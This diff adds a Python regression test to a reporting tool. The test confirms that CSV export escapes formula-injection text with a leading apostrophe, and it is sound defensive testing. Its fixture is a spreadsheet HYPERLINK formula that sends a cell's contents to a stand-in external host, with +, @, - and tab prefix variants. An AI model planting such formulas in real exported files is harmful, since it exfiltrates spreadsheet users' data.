@@ -125,6 +125,27 @@ def test_a_csv_name_a_spreadsheet_takes_for_a_formula_is_written_as_the_same_pat
     assert Path(names[[r["name"] for r in rows].index(name)]) == Path(name)  # the same file
 
 
+def test_csv_text_a_foreign_manifest_spells_is_never_a_formula(report, tmp_path):
+    """A manifest from elsewhere names its precision and thresholds as it likes (export
+    --threshold takes the checkpoint's name): report.csv carried '=HYPERLINK(...)' in the
+    precision and threshold_name cells, which a spreadsheet ran. Each text cell now starts
+    with OWASP's ' there; the numbers, and report.json, are as they were."""
+    formula = '=HYPERLINK("http://x.example/?"&A2,"see")'
+    starts = {"precision": "+" + formula, "threshold_name": formula, "runtime": "@" + formula,
+              "reasons": ["-" + formula, "ok"], "target": "\t" + formula}  # fmt: skip
+    rows = [{**row, **starts} for row in report["artifacts"]]
+    write_csv(rows, tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(newline="") as handle:
+        records = list(csv.DictReader(handle))
+    for record in records:
+        assert {key: record[key] for key in starts} == {
+            "precision": "'+" + formula, "threshold_name": "'" + formula,
+            "runtime": "'@" + formula, "reasons": f"'-{formula}; ok", "target": "'\t" + formula,
+        }  # fmt: skip
+    int8 = next(r for r in records if r["name"] == "m-executorch-int8.pte")
+    assert int8["delta_auc"] == "-0.002" and int8["threshold"] == "0.5"  # numbers stay numbers
+
+
 def test_terminal_and_markdown_tables(report):
     table = text_table(report["artifacts"]).splitlines()
     assert table[0].split()[0] == "artifact" and len(table) == 2 + 8 + 1  # header, rule, rows, note
